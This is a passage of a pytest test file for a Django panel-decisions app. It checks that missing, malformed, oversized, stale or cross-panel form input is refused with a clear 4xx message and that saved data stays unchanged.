"""Every form and endpoint of the decisions app, given what people (and attackers) really send: missing
answers, wrong types, text too long, answers not in the list, another panel's ids, a form left open while
someone else saved. The answer is a 4xx with a message that says what to fix, never a 500, and nothing
already saved is lost."""

import csv
import datetime
import html
import io
import json
import re

import pytest
from django.urls import reverse
from django.utils import timezone

from decisions import services
from decisions.models import (
    Decision,
    DecisionKind,
    Outcome,
)
from nrm_panel.models import Panel, Role
from referrals.models import Referral, State
from tests.decisions.http_helpers import snapshot, world_kept_for_module
from tests.factories import member

pytestmark = pytest.mark.django_db

HUGE = str(10**20)  # more than any integer column holds
TOO_LONG = "x" * 10_001  # textareas take 10,000 characters
# A form sent with nothing filled in: a browser still sends the button (and the CSRF token, which the test
# client leaves out). See test_a_form_posted_completely_empty_says_what_to_fix for a body with nothing at all.
NOTHING = {"save": "Save"}


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    yield from world_kept_for_module(django_db_blocker)


@pytest.fixture
def as_(client):
    def _as(user):
        client.logout()
        client.force_login(user)
        return client

    return _as


def shown_errors(response) -> list[str]:
    """The messages of the page's error summary, or of the 'could not be done' page."""
    page = response.content.decode()
    found = re.findall(r'data-testid="refusal">(.*?)</p>', page, re.S)
    start = page.find("govuk-error-summary")
    if start != -1:
        found += re.findall(r"<li><a [^>]*>(.*?)</a></li>", page[start : page.find("</ul>", start)], re.S)
    return [html.unescape(text).strip() for text in found]


def assert_refused(response, *expected, status=400):
    """A 4xx, with at least one message shown, holding each of `expected`."""
    assert response.status_code == status, response.content.decode()[:3000]
    errors = shown_errors(response)
    assert errors, "The page shows no message saying what to fix"
    for message in expected:
        assert any(message in error for error in errors), f"{message!r} not among the messages shown: {errors}"


def day_fields(name: str, day: datetime.date) -> dict:
    return {f"{name}_0": day.day, f"{name}_1": day.month, f"{name}_2": day.year}


def today() -> datetime.date:
    return timezone.localdate()


def values(instance) -> dict:
    return type(instance).objects.filter(pk=instance.pk).values().get()


# --- Meetings --------------------------------------------------------------------------------------


def meeting_answers(w, **overrides) -> dict:
    return {
        **day_fields("date", w.later.date + datetime.timedelta(days=7)),
        "starts_at": "14:00",
        "format": "virtual",
        "place": "Committee room 1",
        "reason": "Two cases due before the next meeting.",
        **overrides,
    }


MEETING_BAD_INPUT = {
    "nothing": (lambda w: dict(NOTHING), ["Enter the date of the meeting", "Start time", "How it meets"]),
    "letters-in-the-date": (lambda w: meeting_answers(w, date_0="aa", date_1="bb", date_2="cccc"), []),
    "impossible-date": (lambda w: meeting_answers(w, date_0="31", date_1="2", date_2="2030"), ["Enter a real date"]),
    "huge-year": (lambda w: meeting_answers(w, date_2=HUGE), ["Enter a real date"]),
    "past-date": (
        lambda w: meeting_answers(w, **day_fields("date", today() - datetime.timedelta(days=1))),
        ["The meeting date must be today or in the future"],
    ),
    "letters-for-the-time": (lambda w: meeting_answers(w, starts_at="ten"), ["Enter a time like 10:00 or 14:30"]),
    "impossible-time": (lambda w: meeting_answers(w, starts_at="25:61"), ["Enter a time like 10:00 or 14:30"]),
    "unknown-format": (lambda w: meeting_answers(w, format="hologram"), ["Select one of the answers shown"]),
    "place-too-long": (lambda w: meeting_answers(w, place="p" * 201), ["must be 200 characters or fewer"]),
    "reason-too-long": (lambda w: meeting_answers(w, reason=TOO_LONG), ["must be 10000 characters or fewer"]),
}


@pytest.mark.parametrize("case", MEETING_BAD_INPUT.values(), ids=MEETING_BAD_INPUT.keys())
def test_calling_a_meeting_with_bad_input_is_refused(case, as_, world):
    answers, messages = case
    before = snapshot()

    response = as_(world.s.coordinator).post(reverse("decisions:meeting_call", args=[world.s.panel.pk]), answers(world))

    assert_refused(response, *messages)
    assert snapshot() == before


@pytest.mark.parametrize("case", MEETING_BAD_INPUT.values(), ids=MEETING_BAD_INPUT.keys())
def test_changing_a_meeting_with_bad_input_is_refused(case, as_, world):
    answers, messages = case
    before = snapshot()

    response = as_(world.s.chair).post(
        reverse("decisions:meeting_change", args=[world.later.public_id]),
        {**answers(world), "version": world.later.version},
    )

    assert_refused(response, *messages)
    assert snapshot() == before


@pytest.mark.parametrize("panel_id", ["other", HUGE, "0"])
def test_calling_a_meeting_of_a_panel_that_is_not_yours_is_not_found(panel_id, as_, world):
    panel_id = world.theirs.s.panel.pk if panel_id == "other" else panel_id
    before = snapshot()

    call = reverse("decisions:meeting_call", args=[0]).replace("/0/", f"/{panel_id}/")
    schedule = reverse("decisions:meetings_schedule", args=[0]).replace("/0/", f"/{panel_id}/")
    client = as_(world.s.coordinator)

    assert client.get(call).status_code == 404
    assert client.post(call, meeting_answers(world)).status_code == 404
    assert client.post(schedule).status_code == 404
    assert snapshot() == before


def test_a_meeting_changed_by_someone_else_meanwhile_is_not_overwritten(as_, world):
    url = reverse("decisions:meeting_change", args=[world.later.public_id])
    form_version = world.later.version
    chairs_change = meeting_answers(world, place="The chair's room", reason="Moved by the chair.")
    assert as_(world.s.chair).post(url, {**chairs_change, "version": form_version}).status_code == 302
    saved = values(world.later)

    response = as_(world.s.coordinator).post(
        url, {**meeting_answers(world, place="The coordinator's room"), "version": form_version}
    )

    assert_refused(response, services.STALE, status=409)
    assert values(world.later) == saved
    assert saved["place"] == "The chair's room"


@pytest.mark.parametrize("name", ["meeting_change", "meeting_cancel"])
def test_a_meeting_that_has_started_cannot_be_moved_or_cancelled(name, as_, world):
    before = snapshot()
    data = {**meeting_answers(world), "version": world.meeting.version} if name == "meeting_change" else {}
    data["reason"] = "Changed my mind."

    response = as_(world.s.coordinator).post(reverse(f"decisions:{name}", args=[world.meeting.public_id]), data)

    assert_refused(response, services.MEETING_NOT_SCHEDULED)
    assert snapshot() == before


@pytest.mark.parametrize(
    ("reason", "message"), [("", "Enter an answer for “Why is the meeting cancelled?”"), (TOO_LONG, "10000")]
)
def test_cancelling_a_meeting_without_a_reason_or_with_an_essay_is_refused(reason, message, as_, world):
    before = snapshot()

    response = as_(world.s.coordinator).post(
        reverse("decisions:meeting_cancel", args=[world.later.public_id]), {"reason": reason}
    )

    assert_refused(response, message)
    assert snapshot() == before


def test_cancelling_a_meeting_with_cases_on_its_agenda_is_refused(as_, world):
    services.agenda_add(meeting=world.later, referral=world.waiting, user=world.s.coordinator)
    before = snapshot()

    response = as_(world.s.coordinator).post(
        reverse("decisions:meeting_cancel", args=[world.later.public_id]), {"reason": "Nothing to decide."}
    )

    assert_refused(response, services.MEETING_HAS_ITEMS)
    assert snapshot() == before


def test_opening_a_meeting_before_its_day_is_refused(as_, world):
    before = snapshot()

    response = as_(world.s.chair).post(reverse("decisions:meeting_open", args=[world.later.public_id]))

    assert_refused(response, services.MEETING_NOT_TODAY.format(date=f"{world.later.date:%-d %B %Y}"))
    assert snapshot() == before


def test_a_meeting_id_that_is_not_a_meetings_is_not_found(as_, world):
    client = as_(world.s.chair)
    for public_id in ("not-a-uuid", "00000000-0000-0000-0000-000000000000", str(world.case_a.public_id)):
        url = reverse("decisions:meeting", args=[world.meeting.public_id]).replace(
            str(world.meeting.public_id), public_id
        )
        assert client.get(url).status_code == 404
        assert client.get(url + "pack/").status_code == 404


ATTENDANCE_BAD_INPUT = {
    "letters": lambda w: ["abc"],
    "huge-id": lambda w: [HUGE],
    "negative-id": lambda w: ["-1"],
    "another-panels-member": lambda w: [w.theirs.s.police.pk],
    "someone-with-no-role": lambda w: [w.theirs.s.police.pk + 100_000],
    "the-chair-again": lambda w: [w.s.chair.pk],
}


@pytest.mark.parametrize("present", ATTENDANCE_BAD_INPUT.values(), ids=ATTENDANCE_BAD_INPUT.keys())
def test_attendance_of_people_not_on_the_panel_is_refused(present, as_, world):
    before = snapshot()
    people = [p.pk for p in world.s.voting_members] + present(world)

    response = as_(world.s.chair).post(
        reverse("decisions:attendance", args=[world.meeting.public_id]), {"present": people}
    )

    assert_refused(response, "Choose people who have a role on this panel")
    assert snapshot() == before


def test_attendance_at_a_meeting_not_yet_open_is_refused(as_, world):
    before = snapshot()

    response = as_(world.s.chair).post(
        reverse("decisions:attendance", args=[world.fresh.public_id]), {"present": [world.s.police.pk]}
    )

    assert_refused(response, services.MEETING_NOT_OPEN)
    assert snapshot() == before


# --- Agendas ---------------------------------------------------------------------------------------

AGENDA_ADD_BAD_INPUT = {
    "nothing": (lambda w: dict(NOTHING), "Select the cases to add to the agenda"),
    # Django's own wording, not the form's: the message still says what is wrong.
    "not-a-uuid": (lambda w: {"cases": ["not-a-uuid"]}, "“not-a-uuid” is not a valid UUID"),
    "a-number": (lambda w: {"cases": [HUGE]}, f"“{HUGE}” is not a valid UUID"),
    "unknown-case": (
        lambda w: {"cases": ["00000000-0000-0000-0000-000000000000"]},
        "Select cases from the list of cases awaiting a decision",
    ),
    "another-panels-case": (
        lambda w: {"cases": [w.theirs.waiting.public_id]},
        "Select cases from the list of cases awaiting a decision",
    ),
    "case-already-on-an-agenda": (
        lambda w: {"cases": [w.case_a.public_id]},
        "Select cases from the list of cases awaiting a decision",
    ),
    "decided-case": (
        lambda w: {"cases": [w.negative.public_id]},
        "Select cases from the list of cases awaiting a decision",
    ),
    "one-good-one-bad": (
        lambda w: {"cases": [w.waiting.public_id, w.theirs.waiting.public_id]},
        "Select cases from the list of cases awaiting a decision",
    ),
}


@pytest.mark.parametrize("case", AGENDA_ADD_BAD_INPUT.values(), ids=AGENDA_ADD_BAD_INPUT.keys())
def test_adding_to_an_agenda_cases_that_are_not_awaiting_it_is_refused(case, as_, world):
    data, message = case
    before = snapshot()

    response = as_(world.s.coordinator).post(reverse("decisions:agenda_add", args=[world.later.public_id]), data(world))

    assert_refused(response, message)
    assert snapshot() == before


@pytest.mark.parametrize("direction", ["", "sideways", "up" * 1000])
def test_moving_an_agenda_item_anywhere_but_up_or_down_is_refused(direction, as_, world):
    before = snapshot()

    response = as_(world.s.coordinator).post(
        reverse("decisions:agenda_reorder", args=[world.meeting.public_id, world.item_b.pk]), {"direction": direction}
    )

    assert_refused(response, "Choose up or down.")
    assert snapshot() == before


def test_taking_off_the_agenda_an_item_with_a_decision_is_refused(as_, world):
    before = snapshot()

    response = as_(world.s.coordinator).post(
        reverse("decisions:agenda_remove", args=[world.meeting.public_id, world.item_a.pk]),
        {"reason": "Not ready."},
    )

    assert_refused(response, services.DECISIONS_RECORDED)
    assert snapshot() == before


@pytest.mark.parametrize(
    ("reason", "message"), [("", "Enter an answer for “Why is the case coming off the agenda?”"), (TOO_LONG, "10000")]
)
def test_taking_a_case_off_the_agenda_needs_a_reason_of_sensible_length(reason, message, as_, world):
    before = snapshot()

    response = as_(world.s.coordinator).post(
        reverse("decisions:agenda_remove", args=[world.meeting.public_id, world.item_b.pk]), {"reason": reason}
    )

    assert_refused(response, message)
    assert snapshot() == before


# --- A form sent with no fields at all ---------------------------------------------------------------

# Not attendance: every box unticked is a real answer there (nobody but the chair is present).
EMPTY_BODY_FORMS = {
    "meeting-call": ("coordinator", lambda w: reverse("decisions:meeting_call", args=[w.s.panel.pk])),
    "decision": (
        "chair",
        lambda w: reverse("decisions:decision_record", args=[w.meeting.public_id, w.item_b.pk, "rg"]),
    ),
    "agency-input": (
        "panel_member",
        lambda w: reverse("decisions:agency_input", args=[w.case_a.public_id, w.police.pk]),
    ),
    "case-close": ("coordinator", lambda w: reverse("decisions:case_close", args=[w.negative.public_id])),
}


@pytest.mark.parametrize("form", EMPTY_BODY_FORMS.values(), ids=EMPTY_BODY_FORMS.keys())
def test_a_form_posted_completely_empty_says_what_to_fix(form, as_, world):
    who, url = form
    before = snapshot()

    response = as_(world.actors[who]).post(url(world), {})

    assert snapshot() == before
    assert_refused(response)


# --- The version a form started from ----------------------------------------------------------------

VERSIONED_FORMS = {
    "meeting": lambda w: (
        w.s.coordinator,
        reverse("decisions:meeting_change", args=[w.later.public_id]),
        meeting_answers(w),
    ),
    "decision": lambda w: (
        w.s.chair,
        reverse("decisions:decision_record", args=[w.meeting.public_id, w.item_a.pk, "rg"]),
        decision_answers(),
    ),
    "agency-input": lambda w: (
        w.s.police,
        reverse("decisions:agency_input", args=[w.case_a.public_id, w.police.pk]),
        input_answers(),
    ),
}
NOT_VERSIONS = ["abc", HUGE, "0", "-1", "1.5"]


@pytest.mark.parametrize("version", NOT_VERSIONS)
@pytest.mark.parametrize("form", VERSIONED_FORMS.values(), ids=VERSIONED_FORMS.keys())
def test_a_version_that_is_not_a_version_is_refused_and_changes_nothing(form, version, as_, world):
    user, url, answers = form(world)
    before = snapshot()

    response = as_(user).post(url, {**answers, "version": version})

    assert response.status_code == 400
    assert snapshot() == before


@pytest.mark.parametrize("version", NOT_VERSIONS)
@pytest.mark.parametrize("form", VERSIONED_FORMS.values(), ids=VERSIONED_FORMS.keys())
def test_a_version_that_is_not_a_version_says_what_to_do(form, version, as_, world):
    user, url, answers = form(world)

    response = as_(user).post(url, {**answers, "version": version})

    assert_refused(response)


# --- Another panel's ids, and ids that are nobody's --------------------------------------------------


def _swap(url_name, args):
    return lambda w: reverse(f"decisions:{url_name}", args=args(w))


def _big(url_name, args):
    """The URL with 123456789 in it replaced by a number larger than any id."""
    return lambda w: reverse(f"decisions:{url_name}", args=args(w)).replace("123456789", HUGE)


# (who asks, by the names of world.actors; the method; the URL with a foreign or impossible id; the data)
NOT_FOUND = {
    "their-meeting": ("chair", "get", _swap("meeting", lambda w: [w.theirs.meeting.public_id]), None),
    "their-meeting-pack": ("chair", "get", _swap("pack", lambda w: [w.theirs.meeting.public_id]), None),
    "their-meeting-pdf": ("chair", "get", _swap("pack_pdf", lambda w: [w.theirs.meeting.public_id]), None),
    "their-meeting-minutes": ("chair", "post", _swap("minutes", lambda w: [w.theirs.done.public_id]), {}),
    "their-meeting-open": ("chair", "post", _swap("meeting_open", lambda w: [w.theirs.fresh.public_id]), {}),
    "their-meeting-change": (
        "coordinator",
        "post",
        _swap("meeting_change", lambda w: [w.theirs.later.public_id]),
        {"reason": "x"},
    ),
    "their-meeting-cancel": (
        "coordinator",
        "post",
        _swap("meeting_cancel", lambda w: [w.theirs.later.public_id]),
        {"reason": "x"},
    ),
    "their-attendance": (
        "chair",
        "post",
        _swap("attendance", lambda w: [w.theirs.meeting.public_id]),
        {"present": []},
    ),
    "their-agenda": ("coordinator", "get", _swap("agenda", lambda w: [w.theirs.meeting.public_id]), None),
    "our-case-on-their-agenda": (
        "coordinator",
        "post",
        _swap("agenda_add", lambda w: [w.theirs.later.public_id]),
        lambda w: {"cases": [w.waiting.public_id]},
    ),
    "their-item-under-our-meeting": (
        "chair",
        "get",
        _swap("item", lambda w: [w.meeting.public_id, w.theirs.item_a.pk]),
        None,
    ),
    "our-item-under-their-meeting": (
        "chair",
        "get",
        _swap("item", lambda w: [w.theirs.meeting.public_id, w.item_a.pk]),
        None,
    ),
    "their-item-decision": (
        "chair",
        "post",
        _swap("decision_record", lambda w: [w.meeting.public_id, w.theirs.item_a.pk, "rg"]),
        {"outcome": "negative", "reasons": "x"},
    ),
    "their-item-sign-off": (
        "chair",
        "post",
        _swap("sign_off", lambda w: [w.meeting.public_id, w.theirs.item_a.pk]),
        {},
    ),
    "their-item-remove-decision": (
        "chair",
        "post",
        _swap("decision_remove", lambda w: [w.meeting.public_id, w.theirs.item_a.pk, "rg"]),
        {},
    ),
    "their-item-reorder": (
        "coordinator",
        "post",
        _swap("agenda_reorder", lambda w: [w.meeting.public_id, w.theirs.item_b.pk]),
        {"direction": "up"},
    ),
    "their-item-take-off": (
        "coordinator",
        "post",
        _swap("agenda_remove", lambda w: [w.meeting.public_id, w.theirs.item_b.pk]),
        {"reason": "x"},
    ),
    "their-item-conflict": (
        "chair",
        "post",
        _swap("conflict_add", lambda w: [w.meeting.public_id, w.theirs.item_a.pk]),
        lambda w: {"person": w.s.police.pk, "reason": "x"},
    ),
    "their-item-deputy": (
        "chair",
        "post",
        _swap("deputy_set", lambda w: [w.meeting.public_id, w.theirs.item_a.pk]),
        lambda w: {"person": w.s.deputy.pk},
    ),
    "their-conflict-on-our-item": (
        "chair",
        "post",
        _swap("conflict_remove", lambda w: [w.meeting.public_id, w.item_a.pk, w.theirs.conflict.pk]),
        {},
    ),
    "a-conflict-of-another-item": (
        "chair",
        "post",
        _swap("conflict_remove", lambda w: [w.meeting.public_id, w.item_b.pk, w.conflict.pk]),
        {},
    ),
    # A decision for a case that is not on this meeting's agenda: the item belongs to another meeting.
    "an-item-of-another-meeting": (
        "chair",
        "post",
        _swap("decision_record", lambda w: [w.meeting.public_id, w.negative_decision.item_id, "rg"]),
        {"outcome": "positive", "reasons": "x"},
    ),
    "unknown-decision-kind": (
        "chair",
        "post",
        _swap("decision_record", lambda w: [w.meeting.public_id, w.item_a.pk, "xx"]),
        {"outcome": "positive", "reasons": "x"},
    ),
    "remove-a-decision-not-recorded": (
        "chair",
        "post",
        _swap("decision_remove", lambda w: [w.meeting.public_id, w.item_a.pk, "cg"]),
        {},
    ),
    "remove-an-unknown-kind": (
        "chair",
        "post",
        _swap("decision_remove", lambda w: [w.meeting.public_id, w.item_a.pk, "zz"]),
        {},
    ),
    "their-case-inputs": ("coordinator", "get", _swap("case_inputs", lambda w: [w.theirs.case_a.public_id]), None),
    "their-case-input": (
        "panel_member",
        "post",
        _swap("agency_input", lambda w: [w.theirs.case_a.public_id, w.theirs.police.pk]),
        {"knowledge": "x", "risks": "x", "recommendation": "victim", "reasons": "x"},
    ),
    "their-agency-on-our-case": (
        "panel_member",
        "post",
        _swap("agency_input", lambda w: [w.case_a.public_id, w.theirs.police.pk]),
        {"knowledge": "x", "risks": "x", "recommendation": "victim", "reasons": "x"},
    ),
    "our-agency-on-their-case": (
        "panel_member",
        "post",
        _swap("agency_input", lambda w: [w.theirs.case_a.public_id, w.police.pk]),
        {"knowledge": "x", "risks": "x", "recommendation": "victim", "reasons": "x"},
    ),
    "their-case-between-meetings": (
        "chair",
        "post",
        _swap("between_meetings", lambda w: [w.theirs.waiting.public_id]),
        {},
    ),
    "their-case-reconsideration": (
        "coordinator",
        "post",
        _swap("reconsideration_request", lambda w: [w.theirs.negative.public_id]),
        {"requested_by": "child"},
    ),
    "their-case-close": (
        "coordinator",
        "post",
        _swap("case_close", lambda w: [w.theirs.negative.public_id]),
        {"reason": "x"},
    ),
    "their-case-lead-social-worker": (
        "coordinator",
        "post",
        _swap("lead_social_worker", lambda w: [w.theirs.case_a.public_id]),
        {"person": ""},
    ),
    "their-reconsideration-accept": (
        "coordinator",
        "post",
        _swap("reconsideration_accept", lambda w: [w.theirs.reconsideration.pk]),
        {},
    ),
    "their-reconsideration-refuse": (
        "coordinator",
        "post",
        _swap("reconsideration_refuse", lambda w: [w.theirs.reconsideration.pk]),
        {"reason": "x"},
    ),
    "huge-item-id": ("chair", "get", _big("item", lambda w: [w.meeting.public_id, 123456789]), None),
    "huge-item-id-post": (
        "chair",
        "post",
        _big("decision_record", lambda w: [w.meeting.public_id, 123456789, "rg"]),
        {"outcome": "positive", "reasons": "x"},
    ),
    "huge-conflict-id": (
        "chair",
        "post",
        _big("conflict_remove", lambda w: [w.meeting.public_id, w.item_a.pk, 123456789]),
        {},
    ),
    "huge-agency-id": (
        "panel_member",
        "get",
        _big("agency_input", lambda w: [w.case_a.public_id, 123456789]),
        None,
    ),
    "huge-reconsideration-id": (
        "coordinator",
        "post",
        _big("reconsideration_accept", lambda w: [123456789]),
        {},
    ),
    "unknown-case": (
        "coordinator",
        "get",
        _swap("case_inputs", lambda w: ["00000000-0000-0000-0000-000000000000"]),
        None,
    ),
}


@pytest.mark.parametrize("case", NOT_FOUND.values(), ids=NOT_FOUND.keys())
def test_another_panels_ids_and_ids_that_are_nobodys_are_not_found(case, as_, world):
    who, method, url, data = case
    data = data(world) if callable(data) else data
    before = snapshot()

    response = getattr(as_(world.actors[who]), method)(url(world), data or {})

    assert response.status_code == 404, response.content.decode()[:2000]
    assert snapshot() == before


# --- The chair's items -----------------------------------------------------------------------------


def item_url(w, name, item=None, *extra):
    return reverse(f"decisions:{name}", args=[w.meeting.public_id, (item or w.item_a).pk, *extra])


CONFLICT_BAD_INPUT = {
    "nothing": (lambda w: dict(NOTHING), ["Choose a person for “Who has a conflict of interest?”"]),
    "no-reason": (lambda w: {"person": w.s.police.pk}, ["Describe the conflict of interest"]),
    "reason-too-long": (lambda w: {"person": w.s.police.pk, "reason": TOO_LONG}, ["10000"]),
    "letters": (lambda w: {"person": "abc", "reason": "Knows them."}, ["Choose a person from the list"]),
    "huge-id": (lambda w: {"person": HUGE, "reason": "Knows them."}, ["Choose a person from the list"]),
    "someone-not-present": (
        lambda w: {"person": w.actors["other_agency_member"].pk, "reason": "Knows them."},
        ["Choose a person from the list"],
    ),
    "another-panels-member": (
        lambda w: {"person": w.theirs.s.police.pk, "reason": "Knows them."},
        ["Choose a person from the list"],
    ),
}


@pytest.mark.parametrize("case", CONFLICT_BAD_INPUT.values(), ids=CONFLICT_BAD_INPUT.keys())
def test_a_conflict_of_interest_for_someone_not_present_or_without_a_reason_is_refused(case, as_, world):
    data, messages = case
    before = snapshot()

    response = as_(world.s.chair).post(item_url(world, "conflict_add"), data(world))

    assert_refused(response, *messages)
    assert snapshot() == before


DEPUTY_BAD_INPUT = {
    "present-but-not-a-chair": (lambda w: w.s.police.pk, services.NOT_A_CHAIR),
    "a-chair-not-present": (lambda w: member(w.s.panel, Role.CHAIR).pk, services.NOT_A_CHAIR),
    "letters": (lambda w: "abc", "Choose a person from the list"),
    "huge-id": (lambda w: HUGE, "Choose a person from the list"),
    "another-panels-chair": (lambda w: w.theirs.s.chair.pk, "Choose a person from the list"),
}


@pytest.mark.parametrize("case", DEPUTY_BAD_INPUT.values(), ids=DEPUTY_BAD_INPUT.keys())
def test_a_deputy_chair_who_cannot_chair_the_item_is_refused(case, as_, world):
    person, message = case
    person = person(world)
    before = snapshot()

    response = as_(world.s.chair).post(item_url(world, "deputy_set"), {"person": person})

    assert_refused(response, message)
    assert snapshot() == before


def decision_answers(**overrides) -> dict:
    return {"outcome": "positive", "reasons": "Clear indicators of criminal exploitation.", **overrides}


DECISION_BAD_INPUT = {
    "nothing": (lambda w: dict(NOTHING), ["Select an answer for “Outcome”", "Enter the reasons for the decision"]),
    "blank-reasons": (lambda w: decision_answers(reasons="   "), ["Enter the reasons for the decision"]),
    "unknown-outcome": (lambda w: decision_answers(outcome="maybe"), ["Select one of the answers shown for “Outcome”"]),
    "reasons-too-long": (lambda w: decision_answers(reasons=TOO_LONG), ["10000"]),
    "evidence-too-long": (lambda w: decision_answers(evidence_considered=TOO_LONG), ["10000"]),
    "dissent-too-long": (lambda w: decision_answers(dissent=TOO_LONG), ["10000"]),
    "delay-reason-too-long": (lambda w: decision_answers(delay_reason=TOO_LONG), ["10000"]),
    "deferred-without-a-meeting": (
        lambda w: decision_answers(outcome="deferred"),
        ["Choose the meeting the case is deferred to"],
    ),
    "deferred-to-another-panels-meeting": (
        lambda w: decision_answers(outcome="deferred", deferred_to=w.theirs.later.pk),
        ["Choose a later meeting of this panel"],
    ),
    "deferred-to-a-meeting-today": (
        lambda w: decision_answers(outcome="deferred", deferred_to=w.fresh.pk),
        ["Choose a later meeting of this panel"],
    ),
    "deferred-to-letters": (
        lambda w: decision_answers(outcome="deferred", deferred_to="abc"),
        ["Choose a later meeting of this panel"],
    ),
    "deferred-to-a-huge-id": (
        lambda w: decision_answers(outcome="deferred", deferred_to=HUGE),
        ["Choose a later meeting of this panel"],
    ),
}


@pytest.mark.parametrize("case", DECISION_BAD_INPUT.values(), ids=DECISION_BAD_INPUT.keys())
def test_a_decision_with_bad_input_is_refused_and_none_is_recorded(case, as_, world):
    answers, messages = case
    before = snapshot()

    response = as_(world.s.chair).post(item_url(world, "decision_record", world.item_b, "rg"), answers(world))

    assert_refused(response, *messages)
    assert snapshot() == before


CORRECTION_BAD_INPUT = {
    "nothing": ("rg", lambda w: dict(NOTHING)),
    "unknown-outcome": ("rg", lambda w: decision_answers(outcome="nonsense")),
    "reasons-too-long": ("rg", lambda w: decision_answers(reasons=TOO_LONG)),
    # Only the first decision at an item may defer it.
    "deferral-beside-another-decision": ("cg", lambda w: decision_answers(outcome="deferred", deferred_to=w.later.pk)),
}


@pytest.mark.parametrize("case", CORRECTION_BAD_INPUT.values(), ids=CORRECTION_BAD_INPUT.keys())
def test_a_bad_correction_leaves_the_recorded_decision_as_it_was(case, as_, world):
    kind, answers = case
    before = snapshot()

    response = as_(world.s.chair).post(item_url(world, "decision_record", world.item_a, kind), answers(world))

    assert_refused(response)
    assert snapshot() == before


def test_a_decision_corrected_by_someone_else_meanwhile_is_not_overwritten(as_, world):
    url = item_url(world, "decision_record", world.item_a, "rg")
    client = as_(world.s.chair)
    form_version = world.rg_a.version
    assert client.get(url).status_code == 200
    corrected = decision_answers(reasons="Corrected in the other window.", version=form_version)
    assert client.post(url, corrected).status_code == 302
    saved = values(world.rg_a)
    assert saved["version"] == form_version + 1

    response = client.post(url, decision_answers(outcome="negative", reasons="My old window.", version=form_version))

    assert_refused(response, services.STALE, status=409)
    assert values(world.rg_a) == saved


def test_a_decision_removed_by_someone_else_meanwhile_is_not_recorded_again_from_the_old_form(as_, world):
    url = item_url(world, "decision_record", world.item_a, "rg")
    client = as_(world.s.chair)
    assert client.post(item_url(world, "decision_remove", world.item_a, "rg")).status_code == 302
    before = snapshot()

    response = client.post(url, decision_answers(version=world.rg_a.version))

    assert_refused(response, services.STALE, status=409)
    assert snapshot() == before


def test_a_conclusive_grounds_decision_before_the_reasonable_grounds_one_is_refused(as_, world):
    before = snapshot()

    response = as_(world.s.chair).post(item_url(world, "decision_record", world.item_b, "cg"), decision_answers())

    assert_refused(response, services.CG_NEEDS_POSITIVE_RG)
    assert snapshot() == before


def test_a_decision_for_a_case_taken_off_the_agenda_is_refused(as_, world):
    services.agenda_remove(item=world.item_b, user=world.s.coordinator, reason="The child moved away.")
    before = snapshot()
    client = as_(world.s.chair)

    assert client.get(item_url(world, "item", world.item_b)).status_code == 404
    response = client.post(item_url(world, "decision_record", world.item_b, "rg"), decision_answers())

    assert_refused(response, services.ITEM_REMOVED)
    assert snapshot() == before


@pytest.fixture
def without_quorum(world):
    """Only the chair and the social care member are left present at the meeting."""
    services.attendance_record(meeting=world.meeting, user=world.s.chair, people=[world.s.social_care])


def test_a_decision_without_quorum_is_refused(without_quorum, as_, world):
    before = snapshot()

    response = as_(world.s.chair).post(item_url(world, "decision_record", world.item_b, "rg"), decision_answers())

    assert_refused(response, "The panel is not quorate for this item", "Police", "Health")
    assert snapshot() == before


def test_sign_off_without_quorum_is_refused(without_quorum, as_, world):
    before = snapshot()

    response = as_(world.s.chair).post(item_url(world, "sign_off"))

    assert_refused(response, "The panel is not quorate for this item", "Police", "Health")
    assert snapshot() == before
    assert values(world.rg_a)["signed_off_at"] is None


def test_sign_off_with_no_decision_is_refused(as_, world):
    before = snapshot()

    response = as_(world.s.chair).post(item_url(world, "sign_off", world.item_b))

    assert_refused(response, services.NOTHING_TO_SIGN)
    assert snapshot() == before


def test_approving_the_minutes_with_items_unfinished_is_refused(as_, world):
    before = snapshot()

    response = as_(world.s.chair).post(reverse("decisions:minutes", args=[world.meeting.public_id]))

    assert_refused(response, services.MINUTES_UNFINISHED)
    assert snapshot() == before


# --- Agency inputs ---------------------------------------------------------------------------------


def input_answers(**overrides) -> dict:
    return {
        "knowledge": "Known since 2025.",
        "risks": "Missing episodes.",
        "recommendation": "victim",
        "reasons": "Consistent account.",
        **overrides,
    }


INPUT_BAD_INPUT = {
    "nothing": (
        lambda w: dict(NOTHING),
        [
            "Enter an answer for “What does your agency know of the child?”",
            "Enter an answer for “What are the risks to the child?”",
            "Select an answer for “Your agency's recommendation”",
            "Enter an answer for “Reasons for the recommendation”",
        ],
    ),
    "unknown-recommendation": (lambda w: input_answers(recommendation="guilty"), ["Select one of the answers shown"]),
    "knowledge-too-long": (lambda w: input_answers(knowledge=TOO_LONG), ["10000"]),
    "risks-too-long": (lambda w: input_answers(risks=TOO_LONG), ["10000"]),
    "reasons-too-long": (lambda w: input_answers(reasons=TOO_LONG), ["10000"]),
}


@pytest.mark.parametrize("case", INPUT_BAD_INPUT.values(), ids=INPUT_BAD_INPUT.keys())
def test_an_agency_input_with_bad_input_is_refused_and_the_saved_one_kept(case, as_, world):
    answers, messages = case
    before = snapshot()

    response = as_(world.s.police).post(
        reverse("decisions:agency_input", args=[world.case_a.public_id, world.police.pk]), answers(world)
    )

    assert_refused(response, *messages)
    assert snapshot() == before


def test_an_agency_input_revised_by_a_colleague_meanwhile_is_not_overwritten(as_, world):
    url = reverse("decisions:agency_input", args=[world.case_a.public_id, world.police.pk])
    colleague = member(world.s.panel, Role.PANEL_MEMBER, agency=world.police)
    form_version = world.police_input.version
    assert as_(world.s.police).get(url).status_code == 200
    revised = input_answers(knowledge="The colleague's fuller account.", version=form_version)
    assert as_(colleague).post(url, revised).status_code == 302
    saved = values(world.police_input)
    assert saved["version"] == form_version + 1

    response = as_(world.s.police).post(url, input_answers(knowledge="My older draft.", version=form_version))

    assert_refused(response, services.STALE, status=409)
    assert values(world.police_input) == saved


def test_an_agency_input_on_a_case_already_decided_is_refused(as_, world):
    before = snapshot()

    response = as_(world.s.police).post(
        reverse("decisions:agency_input", args=[world.negative.public_id, world.police.pk]), input_answers()
    )

    assert_refused(response, services.INPUT_NOT_OPEN)
    assert snapshot() == before


# --- Between meetings, reconsideration, closing, the lead social worker -----------------------------


def test_deciding_between_meetings_a_case_not_awaiting_rg_is_refused(as_, world):
    before = snapshot()

    response = as_(world.s.chair).post(reverse("decisions:between_meetings", args=[world.case_a.public_id]))

    assert_refused(response, "it is not awaiting a decision by the panel")
    assert snapshot() == before


def test_deciding_between_meetings_where_the_panel_does_not_allow_it_is_refused(as_, world):
    Panel.objects.filter(pk=world.s.panel.pk).update(allows_rg_between_meetings=False)
    before = snapshot()

